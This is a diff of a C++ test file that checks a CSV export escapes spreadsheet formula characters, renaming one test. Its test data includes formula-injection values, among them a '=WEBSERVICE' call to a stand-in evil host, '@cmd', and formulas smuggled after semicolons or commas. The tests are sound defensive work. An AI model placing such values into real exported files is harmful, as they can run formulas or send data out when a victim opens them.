@@ -361,7 +361,7 @@ TEST_CASE_METHOD(Privacy, "dimension ids and names with formula characters are n
     CHECK(names == std::set<std::string>{"'=WEBSERVICE(\"http://evil.example\")", "'@cmd", "'-advice"});
 }
 
-TEST_CASE_METHOD(Privacy, "a formula after a ';', ',' or tab inside a name does not start a cell for any reader",
+TEST_CASE_METHOD(Privacy, "a formula after a semicolon, comma or tab inside a name does not start a cell for any reader",
                  "[faults][privacy][csv]") {
     add_units({{"semi", "south", "Lyon;=1+1", pb::STORE},
                {"comma", "south", "Nice,@SUM(A1)", pb::STORE},
